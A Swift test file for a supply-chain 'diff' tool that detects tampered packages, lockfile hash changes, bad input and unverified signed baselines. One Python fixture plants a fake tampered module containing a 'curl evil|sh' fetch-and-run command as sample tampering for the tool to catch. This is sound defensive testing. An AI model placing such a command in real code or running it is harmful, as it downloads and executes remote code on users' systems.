import Foundation
import TestSupport
import Testing

/// `provenant diff` end to end: exit codes, formats, and a baseline trusted only once it verifies.
@Suite struct DiffCommandTests {
    @Test func exitCodesFollowFailOnAndApprovals() throws {
        let e = try NpmEdits()
        defer { try? FileManager.default.removeItem(at: e.dir) }
        let plain = try runProcess(provenantBinary, ["diff", e.base.path, e.current.path])
        #expect(plain.code == 0, "no --fail-on: findings alone do not fail")
        #expect(plain.out.contains("drift:tampered") && plain.out.contains("9 findings (1 critical"))
        let failing = try runProcess(provenantBinary, ["diff", e.base.path, e.current.path, "--fail-on", "critical"])
        #expect(failing.code == 1)
        let sarif = try runProcess(provenantBinary, ["diff", e.base.path, e.current.path, "--format", "sarif"])
        #expect(sarif.code == 0)
        #expect(sarif.out.contains("\"ruleId\": \"drift:tampered\""))
        if let out = ProcessInfo.processInfo.environment["PROVENANT_SBOM_OUT"] {
            try sarif.out.write(toFile: out + "/drift-diff.sarif", atomically: true, encoding: .utf8)
        }
        // Approving the one medium addition does not hide the rest.
        let policy = e.dir.appendingPathComponent("policy.yaml")
        try "approve:\n  - id: helpers\n    allow: additions\n    match: fs-*\n".write(to: policy, atomically: true, encoding: .utf8)
        let approved = try runProcess(provenantBinary, ["diff", e.base.path, e.current.path, "--policy", policy.path, "--fail-on", "medium", "--format", "json"])
        #expect(approved.code == 1, "the install script and the rest still fail")
        let doc = try #require(try JSONSerialization.jsonObject(with: Data(approved.out.utf8)) as? [String: Any])
        let approvedRules = (doc["approved"] as? [[String: Any]])?.compactMap { $0["rule"] as? String }
        #expect(approvedRules == ["drift:new-transitive"])
    }

    /// A digest of another algorithm cannot vouch for the same content: a RECORD row moved from sha256
    /// to sha384 beside a changed file, and an npm integrity that gains a sha512 (the one npm checks),
    /// are tampering, not "no change" (found by helper-73).
    @Test func aDigestOfAnotherAlgorithmIsNotTheSameContent() throws {
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let make = #"""
        import os, hashlib, base64, json
        def mk(root, content, alg):
            sp = f'{root}/usr/lib/python3/site-packages'; os.makedirs(sp + '/foo'); os.makedirs(sp + '/foo-1.0.dist-info')
            open(sp + '/foo/__init__.py', 'wb').write(content)
            open(sp + '/foo-1.0.dist-info/METADATA', 'w').write('Metadata-Version: 2.1\nName: foo\nVersion: 1.0\n')
            h = base64.urlsafe_b64encode(getattr(hashlib, alg)(content).digest()).rstrip(b'=').decode()
            open(sp + '/foo-1.0.dist-info/RECORD', 'w').write(f'foo/__init__.py,{alg}={h},{len(content)}\nfoo-1.0.dist-info/METADATA,,\nfoo-1.0.dist-info/RECORD,,\n')
        mk('base', b'print("good")\n', 'sha256')
        mk('current', b'import os; os.system("curl evil|sh")\n', 'sha384')
        def lock(integrity):
            return {"name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": True, "packages": {"": {"name": "app", "version": "1.0.0", "dependencies": {"left-pad": "1.3.0"}},
              "node_modules/left-pad": {"version": "1.3.0", "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz", "integrity": integrity}}}
        sha1 = "sha1-" + base64.b64encode(bytes.fromhex('5b8a3a7765dfe001261dde915589e782f8c94d1e')).decode()
        os.makedirs('lb'); os.makedirs('lc')
        json.dump(lock(sha1), open('lb/package-lock.json', 'w'))
        json.dump(lock(sha1 + " sha512-" + base64.b64encode(b'\x66' * 64).decode()), open('lc/package-lock.json', 'w'))
        a512 = "sha512-" + base64.b64encode(b'\x11' * 64).decode()
        os.makedirs('le'); os.makedirs('lf')
        json.dump(lock(a512), open('le/package-lock.json', 'w'))
        json.dump(lock(a512 + " sha512-" + base64.b64encode(b'\x22' * 64).decode()), open('lf/package-lock.json', 'w'))
        """#
        let made = try runProcess("/bin/sh", ["-c", "cd \"$1\" && python3 -c \"$0\"", make, dir.path])
        try #require(made.code == 0, "\(made.err)")
        let python = try runProcess(provenantBinary, ["diff", dir.path + "/base", dir.path + "/current", "--fail-on", "low"])
        #expect(python.code == 1 && python.out.contains("drift:tampered") && python.out.contains("file digests of another algorithm"), "\(python.out)")
        let npm = try runProcess(provenantBinary, ["diff", dir.path + "/lb/package-lock.json", dir.path + "/lc/package-lock.json", "--fail-on", "low"])
        #expect(npm.code == 1 && npm.out.contains("digests were SHA-1, now SHA-512"), "\(npm.out)")
        // A second hash of the same algorithm pins another tarball too: npm accepts either (found by review).
        let second = try runProcess(provenantBinary, ["diff", dir.path + "/le/package-lock.json", dir.path + "/lf/package-lock.json", "--fail-on", "low"])
        #expect(second.code == 1 && second.out.contains("drift:tampered"), "\(second.out)")
        let same = try runProcess(provenantBinary, ["diff", dir.path + "/lf/package-lock.json", dir.path + "/lf/package-lock.json", "--fail-on", "low"])
        #expect(same.code == 0, "\(same.out)")
    }

    @Test func malformedInputIsExitTwoNamingTheFile() throws {
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let bad = dir.appendingPathComponent("bad.cdx.json")
        try #"{"bomFormat":"CycloneDX","components":[{"name":"#.write(to: bad, atomically: true, encoding: .utf8)
        let good = try fixture("package-lock-v3.json").path
        let r = try runProcess(provenantBinary, ["diff", bad.path, good])
        #expect(r.code == 2)
        #expect(r.err.contains("bad.cdx.json") && r.err.contains("not valid JSON"))
        let policy = dir.appendingPathComponent("p.yaml")
        try "approve:\n  - allow: sideways\n".write(to: policy, atomically: true, encoding: .utf8)
        let p = try runProcess(provenantBinary, ["diff", good, good, "--policy", policy.path])
        #expect(p.code == 2 && p.err.contains("p.yaml:2") && p.err.contains("unknown allow 'sideways'"))
        let missing = try runProcess(provenantBinary, ["diff", good, dir.appendingPathComponent("nope").path])
        #expect(missing.code == 2)
        let fifo = dir.appendingPathComponent("fifo").path
        #expect(mkfifo(fifo, 0o600) == 0)
        let notRegular = try runProcess(provenantBinary, ["diff", good, good, "--policy", fifo])
        #expect(notRegular.code == 2, "a FIFO in place of the policy is refused, not waited on")
        // Found by review: a package list of the wrong type read as empty, so the current side showed
        // as "everything removed" (low) and passed --fail-on high. Now it is refused.
        for (name, text) in [("obj.cdx.json", #"{"bomFormat":"CycloneDX","components":{"x":1}}"#), ("str.spdx.json", #"{"spdxVersion":"SPDX-2.3","packages":"none"}"#),
                             ("item.cdx.json", #"{"bomFormat":"CycloneDX","components":[1]}"#)] {
            let wrong = dir.appendingPathComponent(name)
            try text.write(to: wrong, atomically: true, encoding: .utf8)
            let r = try runProcess(provenantBinary, ["diff", good, wrong.path, "--fail-on", "high"])
            #expect(r.code == 2 && r.err.contains(name) && r.err.contains("'"), "\(name): \(r.code) \(r.err)")
        }
    }

    @Test func aBaselineIsTrustedOnlyWhenItsAttestationVerifies() throws {
        let e = try NpmEdits()
        defer { try? FileManager.default.removeItem(at: e.dir) }
        let key = e.dir.appendingPathComponent("signer").path
        #expect(try runProcess(provenantBinary, ["key", "generate", "-o", key]).code == 0)
        let sbom = e.dir.appendingPathComponent("baseline.cdx.json").path
        #expect(try runProcess(provenantBinary, ["sbom", e.base.path, "-o", sbom], env: ["SOURCE_DATE_EPOCH": "1700000000"]).code == 0)
        let att = e.dir.appendingPathComponent("baseline.att.json").path
        let signed = try runProcess(provenantBinary, ["attest", "--subject", sbom, "--type", "cyclonedx", "--predicate", sbom, "--key", key + ".key", "-o", att])
        #expect(signed.code == 0, "\(signed.err)")
        let ok = try runProcess(provenantBinary, ["diff", sbom, e.current.path, "--baseline-attestation", att, "--key", key + ".pub"])
        #expect(ok.code == 0, "\(ok.err)")
        #expect(ok.err.contains("baseline attestation verified") && ok.out.contains("drift:tampered"))
        // The baseline edited after signing: refused, exit 1, with the reason, and no report.
        var text = try String(contentsOfFile: sbom, encoding: .utf8)
        text = text.replacingOccurrences(of: "\"7.5.0\"", with: "\"7.5.1\"")
        try text.write(toFile: sbom, atomically: true, encoding: .utf8)
        let tampered = try runProcess(provenantBinary, ["diff", sbom, e.current.path, "--baseline-attestation", att, "--key", key + ".pub"])
        #expect(tampered.code == 1)
        #expect(tampered.err.contains("baseline attestation FAILED") && tampered.err.contains("subject"))
        #expect(tampered.out.isEmpty)
        // Another key: refused too.
        let other = e.dir.appendingPathComponent("other").path
        _ = try runProcess(provenantBinary, ["key", "generate", "-o", other])
        let wrongKey = try runProcess(provenantBinary, ["diff", sbom, e.current.path, "--baseline-attestation", att, "--key", other + ".pub"])
        #expect(wrongKey.code == 1)
        let noKey = try runProcess(provenantBinary, ["diff", sbom, e.current.path, "--baseline-attestation", att])
        #expect(noKey.code == 2, "nothing to verify with is a usage error")
    }

    /// A lockfile baseline is catalogued from the bytes that verified (a private copy), so the same
    /// findings come out as from the path itself.
    @Test func anAttestedLockfileBaselineGivesTheSameFindings() throws {
        let e = try NpmEdits()
        defer { try? FileManager.default.removeItem(at: e.dir) }
        let key = e.dir.appendingPathComponent("signer").path
        #expect(try runProcess(provenantBinary, ["key", "generate", "-o", key]).code == 0)
        let att = e.dir.appendingPathComponent("lock.att.json").path
        let predicate = e.dir.appendingPathComponent("approval.json")
        try #"{"approvedBy": "release-review"}"#.write(to: predicate, atomically: true, encoding: .utf8)
        let signed = try runProcess(provenantBinary, ["attest", "--subject", e.base.path, "--type", "https://example.com/approved-lockfile/v1",
                                                      "--predicate", predicate.path, "--key", key + ".key", "-o", att])
        #expect(signed.code == 0, "\(signed.err)")
        let plain = try runProcess(provenantBinary, ["diff", e.base.path, e.current.path, "--format", "json"])
        let attested = try runProcess(provenantBinary, ["diff", e.base.path, e.current.path, "--format", "json", "--baseline-attestation", att, "--key", key + ".pub"])
        #expect(attested.code == 0, "\(attested.err)")
        #expect(attested.err.contains("baseline attestation verified"))
        func rules(_ out: String) throws -> [String] {
            let doc = try #require(try JSONSerialization.jsonObject(with: Data(out.utf8)) as? [String: Any])
            return ((doc["findings"] as? [[String: Any]]) ?? []).compactMap { f in (f["rule"] as? String).map { $0 + " " + ((f["package"] as? String) ?? "") } }
        }
        let expected = try rules(plain.out)
        #expect(expected.contains { $0.hasPrefix("drift:tampered") })
        #expect(try rules(attested.out) == expected)
    }

    /// Found by review: input nothing could read, or content nothing could compare, passed --fail-on.
    @Test func whatCouldNotBeReadFailsFailOn() throws {
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let a = dir.appendingPathComponent("notes.txt"), b = dir.appendingPathComponent("empty.txt")
        try "x\n".write(to: a, atomically: true, encoding: .utf8)
        try "".write(to: b, atomically: true, encoding: .utf8)
        let r = try runProcess(provenantBinary, ["diff", a.path, b.path, "--fail-on", "critical"])
        #expect(r.code == 1 && r.err.contains("NOT CHECKED"))
        let allowed = try runProcess(provenantBinary, ["diff", a.path, b.path, "--fail-on", "critical", "--allow-unchecked"])
        #expect(allowed.code == 0)
    }

    /// A name over the limit was one message for two limits, without its line; a missing --key was
    /// blamed on --baseline-attestation (found by helper-170).
    @Test func namesAndKeyErrorsSayWhereAndWhich() throws {
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let bom = dir.appendingPathComponent("bom.json")
        try #"{"bomFormat": "CycloneDX", "specVersion": "1.5", "components": []}"#.write(to: bom, atomically: true, encoding: .utf8)
        let names = dir.appendingPathComponent("names.txt")
        try "# known\nlodash\n\(String(repeating: "a", count: 215))\n".write(to: names, atomically: true, encoding: .utf8)
        let r = try runProcess(provenantBinary, ["diff", bom.path, bom.path, "--names", names.path])
        #expect(r.code == 2 && r.err.contains("names.txt:3: a name of 215 bytes; names are at most 214 bytes"), "\(r.err)")
        let att = dir.appendingPathComponent("bom.intoto.jsonl")
        try #"{"payloadType": "application/vnd.in-toto+json", "payload": "e30=", "signatures": [{"sig": "AAAA"}]}"#.write(to: att, atomically: true, encoding: .utf8)
        let k = try runProcess(provenantBinary, ["diff", bom.path, bom.path, "--baseline-attestation", att.path, "--key", dir.appendingPathComponent("nonexist.pub").path])
        #expect(k.code == 2 && k.err.contains("verifying --baseline-attestation") && k.err.contains("nonexist.pub"), "\(k.code) \(k.err)")
    }

    /// An empty directory as the current side read as every package removed, low findings only, and
    /// passed --fail-on high: a wrong path or an empty mount is not a clean target (found by helper-163).
    @Test func anEmptyCurrentSideIsNotChecked() throws {
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let base = dir.appendingPathComponent("base"), empty = dir.appendingPathComponent("empty")
        for d in [base, empty] { try FileManager.default.createDirectory(at: d, withIntermediateDirectories: true) }
        // Pinned requirements record no source, so nothing else is NOT CHECKED here.
        try "requests==2.31.0\n".write(to: base.appendingPathComponent("requirements.txt"), atomically: true, encoding: .utf8)
        let r = try runProcess(provenantBinary, ["diff", base.path, empty.path, "--fail-on", "high"])
        #expect(r.code == 1 && r.out.contains("NOT CHECKED: the current side holds no package where the baseline holds 1"), "\(r.out) \(r.err)")
        #expect(try runProcess(provenantBinary, ["diff", base.path, empty.path, "--fail-on", "high", "--allow-unchecked"]).code == 0)
        #expect(try runProcess(provenantBinary, ["diff", empty.path, base.path, "--fail-on", "high"]).code == 0, "an empty baseline: the package is added")
    }
}
